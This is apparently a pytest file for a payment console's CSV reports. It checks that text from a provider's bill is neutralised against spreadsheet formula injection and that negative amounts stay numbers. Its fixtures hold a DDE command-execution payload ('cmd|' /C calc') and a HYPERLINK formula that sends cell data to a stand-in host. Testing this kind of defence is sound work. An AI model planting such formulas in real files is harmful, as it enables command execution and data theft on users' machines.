"""The console's CSV reports as a spreadsheet opens them: text from outside windowpay
(a provider's bill, a provider's error) never runs as a formula, and amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from zoneinfo import ZoneInfo

import pytest

from orchestrator.console import i18n, reports
from orchestrator.domain.states import Channel
from orchestrator.reconcile.settlement import SettlementRow

DAY = date(2026, 12, 7)


@pytest.fixture(scope="module")
def zh() -> i18n.Language:
    return i18n.load(ZoneInfo("Asia/Shanghai"))["zh_CN"]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def difference(out_trade_no: str, detail: str) -> dict[str, object]:
    return {
        "provider": "WECHAT", "kind": "missing_at_windowpay", "out_trade_no": out_trade_no,
        "out_refund_no": "-1", "order_id": "", "windowpay_amount_fen": 0,
        "provider_amount_fen": 4321, "detail": detail, "action": "listed", "resolved": False,
    }  # fmt: skip


def test_text_from_a_providers_bill_does_not_run_as_a_formula(zh: i18n.Language) -> None:
    """A bill row windowpay never made carries the provider's out_trade_no; a failed
    download carries the provider's own words. Excel runs a cell that starts with =, +,
    -, @, a tab or a carriage return."""
    runs = [
        {"day": DAY, "provider": "ALIPAY", "failure": "@SUM(1+1)*cmd|' /C calc'!A0",
         "matched_count": 0, "matched_amount_fen": 0, "refunds_matched_count": 0,
         "refunds_matched_amount_fen": 0},
        {"day": DAY, "provider": "WECHAT", "failure": "", "matched_count": 1,
         "matched_amount_fen": 11000, "refunds_matched_count": 0,
         "refunds_matched_amount_fen": 0},
    ]  # fmt: skip
    hostile = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
    text = reports.reconciliation_csv(
        runs, [difference(hostile, "+1+1"), difference("\t=1+1", "\r=1+1")], zh
    )
    cells = [cell for row in rows(text)[1:] for cell in row]
    assert "'" + hostile in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+1+1" in cells and "'\t=1+1" in cells and "'\r=1+1" in cells
    assert "'-1" not in cells and "-1" in cells  # a number stays a number
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert risky == []


def test_a_negative_amount_stays_a_number(zh: i18n.Language) -> None:
    """A window that refunded more than it took on the day has a negative net."""
    row = SettlementRow("SP01", "SP01-W1", Channel.CASH, 1, 500, 1, 1500)
    assert rows(reports.settlement_csv([row], zh))[1] == [
        "SP01", "SP01-W1", "现金", "1", "5.00", "1", "15.00", "-10.00",
    ]  # fmt: skip
